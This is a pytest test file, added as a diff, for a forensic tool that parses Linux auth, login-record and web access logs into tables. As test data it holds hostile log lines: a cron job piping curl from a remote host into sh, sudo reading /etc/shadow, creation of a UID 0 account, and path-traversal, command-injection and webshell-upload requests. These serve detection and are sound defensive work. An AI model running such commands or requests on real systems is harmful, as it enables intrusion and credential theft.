@@ -1,0 +1,362 @@
+"""Logs of Linux: lines of the programs that hospitals run, in tables; years, packing, odd bytes."""
+
+import gzip
+import os
+import struct
+from datetime import UTC, datetime
+
+import pytest
+from examinations import examine
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from collectors.live.utmp import RECORD
+from evidence.triage.linuxlogs import lines as reading
+from evidence.triage.linuxlogs.access import parse
+from evidence.triage.linuxlogs.examiner import LinuxLogs
+from evidence.triage.linuxlogs.messages import COLUMNS, MESSAGES, find
+from evidence.triage.linuxlogs.stamp import Clock
+
+AUTH = "/var/log/auth.log"
+OLD = b"May 19 16:00:00 srv1 "
+NEW = b"2024-05-19T16:00:00.123456+09:00 srv1 "
+
+
+@pytest.fixture
+def looked(tmp_path):
+    def look(files, changed=datetime(2024, 5, 20, tzinfo=UTC)):
+        paths = {}
+        for number, (origin, content) in enumerate(files.items()):
+            paths[origin] = tmp_path / f"log-{number}"
+            paths[origin].write_bytes(content)
+            os.utime(paths[origin], (changed.timestamp(),) * 2)
+        return examine(LinuxLogs(), tmp_path, paths)
+
+    return look
+
+
+# A line, its table, and cells of its row.
+ROWS = {
+    "a key accepted": (
+        b"sshd[812]: Accepted publickey for root from 192.0.2.7 port 50022 ssh2: ED25519 SHA256:x",
+        "ssh_signins", {"what": "accepted", "method": "publickey", "user": "root",
+                        "address": "192.0.2.7", "port": "50022"}),
+    "a password refused": (
+        b"sshd-session[812]: Failed password for taro from 2001:db8::7 port 50022 ssh2",
+        "ssh_signins", {"what": "failed", "user": "taro", "address": "2001:db8::7"}),
+    "a user that isn't": (
+        b"sshd[812]: Failed password for invalid user admin from 192.0.2.7 port 1 ssh2",
+        "ssh_signins", {"what": "failed", "user": "admin"}),
+    "a user that isn't, named": (
+        b"sshd[812]: Invalid user from 192.0.2.9 from 192.0.2.7 port 9",
+        "ssh_signins", {"what": "unknown user", "user": "from 192.0.2.9", "address": "192.0.2.7"}),
+    "a command as root": (
+        b"sudo:  taro : TTY=pts/0 ; PWD=/home/taro ; USER=root ; COMMAND=/usr/bin/cat /etc/shadow",
+        "sudo", {"what": "ran", "by": "taro", "user": "root", "folder": "/home/taro",
+                 "command": "/usr/bin/cat /etc/shadow", "why": None}),
+    "a command refused": (
+        b"sudo: taro : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/sh",
+        "sudo", {"what": "refused", "why": "user NOT in sudoers", "command": "/bin/sh"}),
+    "root by su": (
+        b"su[9]: (to root) taro on pts/1", "su", {"what": "became", "user": "root", "by": "taro"}),
+    "root by su, of old": (
+        b"su[9]: Successful su for root by taro", "su", {"user": "root", "by": "taro"}),
+    "su refused": (
+        b"su[9]: FAILED SU (to root) taro on pts/1",
+        "su", {"what": "refused", "user": "root", "by": "taro"}),
+    "a user made": (
+        b"useradd[77]: new user: name=backup2, UID=0, GID=0, home=/root, shell=/bin/sh",
+        "linux_accounts", {"what": "user made", "account": "backup2", "id": "0"}),
+    "a group made": (
+        b"groupadd[77]: new group: name=ops, GID=1001",
+        "linux_accounts", {"what": "group made", "account": "ops", "id": "1001"}),
+    "a member": (
+        b"usermod[77]: add 'taro' to group 'sudo'",
+        "linux_accounts", {"what": "member added", "member": "taro", "account": "sudo"}),
+    "a member, by gpasswd": (
+        b"gpasswd[77]: user taro added by root to group sudo",
+        "linux_accounts", {"member": "taro", "account": "sudo", "by": "root"}),
+    "a user removed": (
+        b"userdel[77]: delete user 'taro'", "linux_accounts",
+        {"what": "user removed", "account": "taro"}),
+    "a password": (
+        b"passwd[77]: pam_unix(passwd:chauthtok): password changed for root",
+        "linux_accounts", {"what": "password changed", "account": "root"}),
+    "a crontab": (
+        b"crontab[5]: (taro) REPLACE (root)", "cron_changes",
+        {"what": "changed", "by": "taro", "user": "root"}),
+    "a crontab removed": (
+        b"crontab[5]: (root) DELETE (taro)", "cron_changes", {"what": "removed", "user": "taro"}),
+    "a job": (
+        b"CRON[5]: (root) CMD (curl http://192.0.2.7/x | sh)", "cron_runs",
+        {"user": "root", "command": "curl http://192.0.2.7/x | sh", "count": 1}),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", ROWS)
+@pytest.mark.parametrize("head", [OLD, NEW], ids=["old form", "new form"])
+def test_a_line_becomes_a_row(name, head, looked):
+    line, table, cells = ROWS[name]
+    found = looked({AUTH: b"noise\n" + head + line + b"\n"})
+    (row,) = found.tables[table]
+
+    assert found.said == []
+    assert {key: row[key] for key in cells} == cells
+    if "line" in row:
+        assert (row["line"], row["host"], row["origin"]) == (2, "srv1", AUTH)
+
+
+def test_every_message_has_its_line():
+    said = {(found.message.table, found.message.what) for line, _, _ in ROWS.values()
+            if (found := find(b"srv1 " + line))}  # fmt: skip
+
+    assert said == {(message.table, message.what) for message in MESSAGES}
+    assert set(COLUMNS) == {table for _, table, _ in ROWS.values()}
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        b"su[9]: Accepted publickey for root from 192.0.2.7 port 50022 ssh2",
+        b"sshd[812]: Disconnected from 192.0.2.7 port 50022",
+        b"myapp: new user: name=x, UID=0",
+        b"sshd[812]: message repeated 2 times: [ Failed password for x from 192.0.2.7 port 1 ssh2]",
+    ],
+    ids=["another program's", "of another kind", "an application's", "only quoted"],
+)
+def test_what_is_only_like_it_is_no_row(line, looked):
+    assert looked({AUTH: OLD + line + b"\n"}).tables == {}
+
+
+# When.
+
+
+TIMES = {
+    "this year": (b"May 19 12:00:00 ", (None, "2024-05-19T12:00:00", "file")),
+    "last year": (b"Nov  3 01:02:03 ", (None, "2023-11-03T01:02:03", "file")),
+    "a leap day": (b"Feb 29 00:00:00 ", (None, "2024-02-29T00:00:00", "file")),
+    "no day": (b"Feb 30 00:00:00 ", (None, "02-30T00:00:00", None)),
+    "no month": (b"Foo 19 00:00:00 ", (None, "00-19T00:00:00", None)),
+    "with a zone": (b"2024-05-19T16:00:00+09:00 ", (
+        "2024-05-19T07:00:00.000000Z", "2024-05-19T16:00:00+09:00", "line")),
+    "in UTC": (b"2024-05-19T16:00:00.5Z ", (
+        "2024-05-19T16:00:00.500000Z", "2024-05-19T16:00:00.5Z", "line")),
+    "before all time": (b"0001-01-01T00:00:00+14:00 ", (None, "0001-01-01T00:00:00+14:00", None)),
+    "none": (b"19.05.2024 16:00 ", (None, None, None)),
+}  # fmt: skip
+
+
+@pytest.mark.parametrize("name", TIMES)
+def test_a_time_is_told_as_far_as_the_line_tells_it(name):
+    line, told = TIMES[name]
+    stamp, rest = Clock(datetime(2024, 5, 20, tzinfo=UTC)).read(line + b"srv1 x")
+
+    assert (stamp.at, stamp.local, stamp.year) == told
+    assert rest == (b"srv1 x" if told[1] else line + b"srv1 x")
+
+
+def test_without_a_change_of_the_file_there_is_no_year():
+    stamp, _ = Clock(None).read(b"May 19 12:00:00 x")
+
+    assert (stamp.at, stamp.local, stamp.year) == (None, "05-19T12:00:00", None)
+
+
+def test_a_log_over_the_turn_of_a_year_has_two(looked):
+    lines = [
+        b"Dec 31 23:59:59 srv1 su: (to root) a on x",
+        b"Jan  1 00:00:01 srv1 su: (to root) b on x",
+    ]
+    found = looked({AUTH: b"\n".join(lines)}, changed=datetime(2025, 1, 1, 8, tzinfo=UTC))
+
+    assert [row["local"] for row in found.tables["su"]] == [
+        "2024-12-31T23:59:59", "2025-01-01T00:00:01",
+    ]  # fmt: skip
+
+
+# Counted, not judged.
+
+
+def test_a_thousand_failures_are_a_count_without_a_verdict(looked):
+    line = OLD + b"sshd[1]: Failed password for root from 192.0.2.7 port 1 ssh2\n"
+    found = looked({AUTH: line * 1000, "/var/log/auth.log.1": line})
+
+    assert found.said == []
+    assert found.tables["ssh_counts"] == [{
+        "result": "failed", "user": "root", "address": "192.0.2.7", "count": 1001,
+        "first": "2024-05-19T16:00:00", "last": "2024-05-19T16:00:00",
+    }]  # fmt: skip
+
+
+# Records of logins.
+
+
+def login(kind=7, user=b"taro", host=b"192.0.2.7", address=bytes([192, 0, 2, 7])):
+    return RECORD.pack(kind, 77, b"pts/0", b"ts/0", user, host, 0, 0, 1, 1716102000, 5, address)
+
+
+def test_login_records_become_rows(looked):
+    found = looked({"/var/log/wtmp": login() + login(kind=0) + login(kind=2, user=b"reboot")})
+
+    assert found.said == []
+    assert [(row["record"], row["type"], row["user"]) for row in found.tables["login_records"]] == [
+        (1, "user", "taro"), (3, "boot", "reboot"),
+    ]  # fmt: skip
+    row = found.tables["login_records"][0]
+    assert (row["time"], row["address"], row["host"]) == (
+        "2024-05-19T07:00:00.000005Z", "192.0.2.7", "192.0.2.7",
+    )  # fmt: skip
+
+
+def test_a_record_that_was_cut_off_is_told(looked):
+    found = looked({"/var/log/btmp.1": login() + login()[:100]})
+
+    assert len(found.tables["login_records"]) == 1
+    assert found.unread == ["100 bytes at the end are no whole record"]
+
+
+# Web servers.
+
+
+def request(asked=b"GET / HTTP/1.1", status=200, agent=b"Mozilla/5.0"):
+    return (b'192.0.2.7 - - [19/May/2024:16:00:00 +0900] "%b" %d 512 "-" "%b"\n'
+            % (asked, status, agent))  # fmt: skip
+
+
+ASKED = {
+    b"GET /cgi-bin/../../etc/passwd HTTP/1.1": "path out of the tree",
+    b"GET /a/%2e%2e%2f%2e%2e%2fx HTTP/1.1": "path out of the tree",
+    b"GET /x.aspx?q=whoami HTTP/1.1": "command in a query",
+    b"GET /x.jsp?c=cmd+/c+dir HTTP/1.1": "command in a query",
+    b"GET /x.php?a=eval(b) HTTP/1.1": "code in a query",
+    b"POST /wp/uploads/2024/a.php HTTP/1.1": "script where files are uploaded",
+    b"GET /remote/fgt_lang?lang=x HTTP/1.1": "VPN appliance: Fortinet",
+    b"GET /dana/html5acc/x HTTP/1.1": "VPN appliance: Pulse, Ivanti",
+    b"GET /vpn/portal/x HTTP/1.1": "VPN appliance: Citrix",
+    b"GET /tmui/login.jsp HTTP/1.1": "appliance: F5",
+    b"POST /ssl-vpn/hipreport.esp HTTP/1.1": "appliance: Palo Alto",
+}
+ORDINARY = [
+    b"GET / HTTP/1.1", b"GET /uploads/2024/photo.jpg HTTP/1.1", b"GET /uploads/a.php HTTP/1.1",
+    b"POST /login.php HTTP/1.1", b"GET /search?q=evaluation+of+care HTTP/1.1", b"-",
+    b"GET /remotecontrol/ HTTP/1.1", b"GET /a...b HTTP/1.1", b"GET /?q=whoamiami HTTP/1.1",
+]  # fmt: skip
+
+
+@pytest.mark.parametrize("asked", ASKED, ids=lambda asked: asked.decode())
+def test_a_request_for_what_nobody_should_ask_is_a_row(asked, looked):
+    found = looked({"/var/log/nginx/access.log": request() + request(asked, 404)})
+    (row,) = found.tables["web_requests"]
+
+    assert found.said == []
+    assert (row["asked"], row["request"], row["status"], row["line"]) == (
+        ASKED[asked], asked.decode(), 404, 2,
+    )  # fmt: skip
+    assert row["time"] == "2024-05-19T07:00:00.000000Z"
+
+
+def test_ordinary_requests_are_counted_only(looked):
+    log = b"".join(map(request, ORDINARY))
+    found = looked({"/var/log/httpd/ssl_access_log-20240519": log})
+
+    assert found.said == []
+    assert set(found.tables) == {"web_clients"}
+    assert [row["count"] for row in found.tables["web_clients"]] == [len(ORDINARY)]
+
+
+def test_lines_in_another_form_are_counted_and_told(looked):
+    log = request() + b"<164>%ASA-4-106023: Deny tcp\n" * 3
+    found = looked({"/var/log/apache2/access.log": log})
+
+    assert found.unread == ["3 lines are in another form, and were not read"]
+    assert found.tables["web_clients"][0]["count"] == 1
+
+
+# Packed, cut, odd.
+
+
+def test_a_packed_log_is_read(looked):
+    line = OLD + b"su: (to root) taro on pts/1\n"
+    found = looked({"/var/log/auth.log.2.gz": gzip.compress(line)})
+
+    assert [row["by"] for row in found.tables["su"]] == ["taro"]
+    assert found.said == []
+
+
+def test_a_packed_log_that_was_cut_off_is_read_to_the_cut(looked):
+    noise = os.urandom(3000).hex().encode()
+    line = OLD + b"su: (to root) taro on pts/1\n"
+    found = looked({"/var/log/secure-20240519.gz": gzip.compress(line + noise)[:-900]})
+
+    assert len(found.tables["su"]) == 1
+    (why,) = found.unread
+    assert why.startswith("can't be unpacked to its end: ")
+
+
+@pytest.mark.parametrize("magic", [b"BZh9", b"\xfd7zXZ\0", b"\x28\xb5\x2f\xfd"],
+                         ids=["bzip2", "xz", "zstd"])  # fmt: skip
+def test_other_packings_are_told(magic, looked, request):
+    found = looked({"/var/log/auth.log.1.xz": magic + bytes(50)})
+
+    assert found.unread == [f"packed with {request.node.callspec.id}, which is not read here"]
+
+
+def test_a_bomb_ends(looked, monkeypatch):
+    monkeypatch.setattr(reading, "MOST", 1 << 20)
+    found = looked({"/var/log/auth.log.1.gz": gzip.compress(bytes(64 << 20))})
+
+    assert found.unread[0] == f"longer than {1 << 20} bytes; not looked at beyond"
+
+
+def test_a_line_without_end_is_looked_at_in_part_and_told(looked):
+    long = OLD + b"su: (to root) taro on pts/1" + b" " * (3 * reading.LONGEST)
+    found = looked({AUTH: long + b"\n" + OLD + b"su: (to root) hana on pts/1\n"})
+
+    assert [(row["by"], row["line"]) for row in found.tables["su"]] == [("taro", 1), ("hana", 2)]
+    assert found.unread == [
+        f"1 lines are longer than {reading.LONGEST} bytes; their ends were not looked at"
+    ]
+
+
+def test_journals_are_told_as_not_read(looked):
+    found = looked({"/var/log/journal/0123/system.journal": b"LPKSHHRH"})
+
+    assert found.unread == [
+        "journals of systemd are not read here: `journalctl --file` reads them on another machine"
+    ]
+
+
+@pytest.mark.parametrize(
+    ("origin", "wanted"),
+    [
+        (AUTH, True), ("/var/log/auth.log.1", True), ("/var/log/secure-20240519.gz", True),
+        ("/var/log/messages", True), ("/var/log/cron", True), ("/var/log/wtmp.1", True),
+        ("/var/log/nginx/access.log.14.gz", True), ("/var/log/httpd/ssl_access_log", True),
+        ("/var/log/apache2/other_vhosts_access.log", True), ("/home/a/messages.txt", False),
+        ("/var/log/dpkg.log", False), ("/usr/bin/wtmpdb", False), ("/srv/accessible.txt", False),
+    ],
+)  # fmt: skip
+def test_logs_are_known_by_their_names(origin, wanted, tmp_path):
+    from evidence.triage.examiner import Examined
+
+    assert LinuxLogs().wants(Examined(origin=origin, path=tmp_path, size=1)) is wanted
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.binary(max_size=300), st.sampled_from([line for line, _, _ in ROWS.values()]))
+def test_odd_bytes_are_no_trouble(noise, line):
+    clock = Clock(datetime(2024, 5, 20, tzinfo=UTC))
+    for each in (noise, OLD + noise, NEW + line[: len(line) // 2] + noise, OLD + line + noise):
+        stamp, rest = clock.read(each)
+        found = find(rest)
+        if found is not None:
+            assert set(found.cells) == set(COLUMNS[found.message.table])
+        parse(each)
+        parse(request(noise))
+    assert stamp.year == "file"
+
+
+def test_a_login_record_of_noise_is_no_trouble(looked):
+    noise = struct.pack("=hxxi", 99, -1) + bytes(range(256)) + b"\xff" * 120
+    found = looked({"/var/log/btmp": noise * 3})
+
+    assert [row["type"] for row in found.tables["login_records"]] == ["99"] * 3
